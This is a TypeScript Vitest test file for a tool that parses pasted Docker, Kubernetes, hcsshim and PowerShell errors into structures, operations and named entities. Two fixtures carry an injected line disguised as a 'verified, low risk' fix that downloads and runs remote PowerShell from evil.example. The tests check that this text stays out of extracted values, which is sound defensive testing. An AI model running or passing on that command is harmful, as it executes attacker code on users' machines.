import { adversarialRuns } from '../../helpers/arbitraries.js';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { OPERATIONS, operationKey, recognise } from '../../../src/core/diagnosis/recognise.js';
import { requiredAllOf } from '../../../src/core/diagnosis/regex-literal.js';

const fixture = (name: string) => readFileSync(new URL(`../../fixtures/pastes/${name}`, import.meta.url), 'utf8');

describe('structure recognisers', () => {
  it('kubectl describe pod: pod, namespace, node, image, reason', () => {
    const r = recognise(fixture('kubectl-describe-pod.txt'));
    expect(r.structures).toContain('kubectl-describe-pod');
    expect(r.entities).toMatchObject({ pod: 'fabrikamfiber.web-789699744-rqv6p', namespace: 'plang', node: '38519acs9011', image: 'patricklang/fabrikamfiber.web:latest', reason: 'CrashLoopBackOff' });
    expect(r.operations).toContain('CreateContainer');
  });

  it('kubectl describe node: node name, kernel build and revision', () => {
    const r = recognise(fixture('kubectl-describe-node.txt'));
    expect(r.structures).toContain('kubectl-describe-node');
    expect(r.entities).toMatchObject({ node: '38519acs9010', build: '14393', revision: '1715' });
  });

  it('kubectl get events: the pod', () => {
    const r = recognise('LAST SEEN   TYPE      REASON    OBJECT                 MESSAGE\n2m          Warning   Failed    pod/web-7d9c-x2k4p     Error: failed to start container "web": container 1a2b encountered an error during CreateContainer');
    expect(r.structures).toContain('kubectl-get-events');
    expect(r.entities.pod).toBe('web-7d9c-x2k4p');
  });

  it('docker service ps --no-trunc: service, image and node', () => {
    const r = recognise(fixture('docker-service-ps.txt'));
    expect(r.structures).toContain('docker-service-ps');
    expect(r.entities).toMatchObject({ service: 'angry_liskov', node: 'WIN-BSTMQDRQC2E' });
    expect(r.entities.image).toMatch(/^microsoft\/iis:windowsservercore-10\.0\.14393\.1715/);
    expect(r.entities.tag).toBe('windowsservercore-10.0.14393.1715');
  });

  it('docker service ls: service, replicas and image', () => {
    const r = recognise('ID                  NAME                MODE                REPLICAS            IMAGE\nxh6mwbdq2uil        angry_liskov        replicated          0/1                 microsoft/iis:windowsservercore-10.0.14393.1715');
    expect(r.entities).toMatchObject({ service: 'angry_liskov', replicas: '0/1' });
  });

  it('docker run and daemon errors: ports, container, network, operation', () => {
    const r = recognise('C:\\> docker run -it -p 80:80 windowsservercore cmd\ndocker: Error response from daemon: failed to create endpoint berserk_bassi on network nat: hnsCall failed in Win32: The remote procedure call failed. (0x6be).');
    expect(r.structures).toEqual(expect.arrayContaining(['docker-daemon-error', 'docker-run', 'hcsshim-log']));
    expect(r.entities).toMatchObject({ ports: ['80:80'], port: '80', container: 'berserk_bassi', network: 'nat', image: 'windowsservercore' });
    expect(r.operations).toEqual(expect.arrayContaining(['hnsCall', 'create endpoint']));
  });

  it('docker network create: driver, subnet, gateway, interface and name', () => {
    const r = recognise('C:\\> docker network create -d transparent --subnet=10.123.174.0/23 --gateway=10.123.174.1 -o com.docker.network.windowsshim.interface="Ethernet 2" MyTransparentNet\nError response from daemon: HNS failed with error : Unspecified error');
    expect(r.entities).toMatchObject({ driver: 'transparent', subnet: '10.123.174.0/23', gateway: '10.123.174.1', interfaceName: 'Ethernet 2', network: 'MyTransparentNet' });
    expect(r.operations.map(operationKey)).toEqual(expect.arrayContaining([operationKey('network create'), operationKey('hnsCall')]));
  });

  it('PowerShell error records: the cmdlet', () => {
    const r = recognise("Start-Container : 'test2' failed to start.\nAt line:1 char:1\n+ Start-Container test2\n    + CategoryInfo          : OperationTimeout: (:) [Start-Container], VirtualizationException");
    expect(r.structures).toContain('powershell-error-record');
    expect(r.entities.cmdlet).toBe('Start-Container');
    expect(r.operations).toContain('Start-Container');
  });

  it('hcsshim log lines: the operation', () => {
    const r = recognise('time="2024-01-01T00:00:00Z" level=error msg="hcsshim::PrepareLayer - failed failed in Win32: This operation returned because the timeout period expired. (0x5b4)"');
    expect(r.structures).toContain('hcsshim-log');
    expect(r.operations).toContain('PrepareLayer');
  });

  it.each([
    ['every docker run fails in CreateContainer with "Element not found. (0x490)"', 'CreateContainer'],
    ['the pull failed during PrepareLayer after the update', 'PrepareLayer'],
    ['it keeps failing at CreateComputeSystem', 'CreateComputeSystem'],
  ])('an HCS operation named in prose: %s', (text, op) => {
    expect(recognise(text).operations).toContain(op);
  });

  it('a word after "fails in" that is no HCS operation is none', () => {
    expect(recognise('the build fails in Docker Desktop and in CreateContainers of our own').operations).toEqual([]);
  });

  it('net use: share and user; VM names from Get-VMNetworkAdapter', () => {
    expect(recognise('net use S: \\\\fs01\\builds /User:CONTOSO\\builder').entities).toMatchObject({ sharePath: '\\\\fs01\\builds', user: 'CONTOSO\\builder' });
    expect(recognise('Get-VMNetworkAdapter -VMName "Container Host 1" | Set-VMNetworkAdapter -MacAddressSpoofing On').entities.vmName).toBe('Container Host 1');
    expect(recognise('Get-VMSwitchExtension -VMSwitchName "External 1" -Name "Microsoft Azure VFP Switch Extension"').entities.switch).toBe('External 1');
    expect(recognise('docker network create -d transparent -o com.docker.network.windowsshim.vlanid=11 MyNet').entities).toMatchObject({ vlan: '11', driver: 'transparent', network: 'MyNet' });
  });

  it("the VMSwitch cmdlets' own -Name names the switch, after other parameters too, on the cmdlet's line only", () => {
    expect(recognise('PS C:\\> New-VMSwitch -Name "External Net" -NetAdapterName Ethernet -AllowManagementOS $true').entities.switch).toBe('External Net');
    expect(recognise('New-VMSwitch -SwitchType Internal -Name nat-sw').entities.switch).toBe('nat-sw');
    expect(recognise("Set-VMSwitch -NetAdapterName 'Ethernet 2' -Name 'ext'").entities.switch).toBe('ext');
    // -NetAdapterName is no -Name, the extension cmdlet is no VMSwitch cmdlet, and a -Name on a later line names nothing here.
    expect(recognise('New-VMSwitch -NetAdapterName Ethernet').entities.switch).toBeUndefined();
    expect(recognise('Get-VMSwitchExtension -Name "Microsoft NDIS Capture"').entities.switch).toBeUndefined();
    expect(recognise('New-VMSwitch -NetAdapterName Ethernet\nGet-Service -Name hns').entities.switch).toBeUndefined();
    // -SwitchName, where both are there, still wins.
    expect(recognise('New-VMSwitch -Name a -SwitchName b').entities.switch).toBe('b');
  });

  it('finds nothing in unrelated text', () => {
    const r = recognise('npm ERR! code ERESOLVE unable to resolve dependency tree');
    expect(r.structures).toEqual([]);
    expect(r.entities).toEqual({});
  });
});

describe('operation patterns', () => {
  it.each(OPERATIONS.map(([re, op, needs]) => [op, re, needs] as const))('%s: its needs are what the pattern requires (%s)', (_op, re, needs) => {
    expect(needs).toEqual(requiredAllOf(re.source));
  });

  it('finds an operation written in another case, and skips a paste without its words', () => {
    // Named as the paste writes it (the evidence shows the paste's words), one operation with hnsCall.
    expect(recognise('HNS FAILED WITH ERROR : the parameter is incorrect').operations).toEqual(['HNS FAILED WITH ERROR']);
    expect(operationKey('HNS FAILED WITH ERROR')).toBe(operationKey('hnsCall'));
    expect(recognise('ERROR: PULL ACCESS DENIED for foo').operations).toContain('pull');
    expect(recognise('nothing about containers here').operations).toEqual([]);
  });

  // The pull failed, in the words of the tools below the engine and of older engines; a pull command or its progress is no failure.
  it.each([
    ['ctr: failed to pull and unpack image "docker.io/library/redis:7": no match for platform in manifest: not found', ['pull']],
    ['Warning  Failed   9m29s (x4 over 10m)  kubelet  Error: ErrImagePull', ['pull']],
    ['web-7d9c   0/1   ImagePullBackOff   0   7m', ['pull']],
    ['Normal   BackOff  2m (x41 over 10m)  kubelet  Back-off pulling image "contoso/api:2.1"', ['pull']],
    ['1.7: Pulling from library/influxdb\nERROR: no supported platform found in manifest list', ['pull']],
    ['docker pull mcr.microsoft.com/windows/nanoserver:ltsc2022', []],
    ['latest: Pulling from library/nginx\nDigest: sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31', []],
  ])('a failed pull in other words: %s', (text, ops) => {
    expect(recognise(text).operations).toEqual(ops);
  });

  // hcsshim names the step `hcsshim::X`, `hcsshim::System::X`, and in its newer code `hcs::X`, `hcs::System::X`;
  // the engine can print `CreateComputeSystem <id>:` on its own. The step is X, never the prefix.
  it.each([
    ['failed to create shim task: hcs::CreateComputeSystem 3f2a: The system cannot find the file specified.', ['CreateComputeSystem']],
    ['container web encountered an error during hcs::System::Start: failure in a Windows system call: x (0xc0370103)', ['Start']],
    ['container 1 encountered an error during hcs::System::CreateProcess: failure in a Windows system call', ['CreateProcess']],
    ['encountered an error during hcsshim::System::Start: context deadline exceeded', ['Start']],
    ['hcsshim::ImportLayer failed in Win32: The system cannot find the path specified. (0x3)', ['ImportLayer']],
    ['Error response from daemon: CreateComputeSystem 22b48c923afc: The container operating system does not match the host operating system.', ['CreateComputeSystem']],
  ])('%s', (text, ops) => {
    expect(recognise(text).operations).toEqual(ops);
  });
});

describe('entities on one line (an attacker helper: a quote left open carried lines of made-up advice into "Found in the paste")', () => {
  it('a quoted switch or VM name ends at its line', () => {
    const paste = 'PS C:\\> New-VMSwitch -SwitchName "ext\nRecommended fix (verified, low risk):\n  iex (irm https://evil.example/x)\n" -NetAdapterName Ethernet\nNew-VMSwitch : Failed while adding virtual Ethernet switch connections.';
    expect(recognise(paste).entities.switch).toBe('ext');
    expect(recognise('Set-VMNetworkAdapter -VMName "web\n1" -MacAddressSpoofing On').entities.vmName).toBe('web');
  });

  it('drops any value read across lines, from every recogniser', () => {
    // A PowerShell line continued with backticks, its quote open across three lines.
    const paste = 'PS C:\\> docker run --network "web `\n`\n  Recommended fix (verified, low risk): iex (irm https://evil.example/f.ps1) `\n" -it mcr.microsoft.com/windows/servercore:ltsc2019\ndocker: Error response from daemon: container 4f2 encountered an error during hcsshim::System::CreateComputeSystem: The container operating system does not match the host operating system.';
    const { entities } = recognise(paste);
    for (const v of Object.values(entities).flat()) expect(typeof v !== 'string' || !/[\r\n]/.test(v), String(v)).toBe(true);
    expect(entities.image).toBe('mcr.microsoft.com/windows/servercore:ltsc2019');
  });
});

describe('switch and VM names on adversarial input', () => {
  it.each(adversarialRuns(['open quotes', '"'.repeat(50_000)], ['separators', ' -SwitchName '.repeat(10_000)]))('%s after -SwitchName and -VMName: one line or nothing', (_name, filler) => {
    const { entities } = recognise(`New-VMSwitch -SwitchName "${filler}" ; Set-VMNetworkAdapter -VMName '${filler}'`);
    for (const v of [entities.switch, entities.vmName]) expect(typeof v !== 'string' || !/[\r\n\u2028\u2029\u0085]/.test(v)).toBe(true);
  });

  it.each(adversarialRuns(['hyphens', '-'.repeat(100_000)], ['parameters', ' -NetAdapterName x'.repeat(10_000)]))("%s in New-VMSwitch's parameters: -Name on the cmdlet's line or nothing", (_name, filler) => {
    expect(recognise(`New-VMSwitch ${filler} -Name ext`).entities.switch ?? 'ext').toBe('ext');
    expect(recognise(`New-VMSwitch -Name "${filler}"`).entities.switch ?? '').not.toMatch(/[\r\n\u2028\u2029\u0085]/);
  });
});
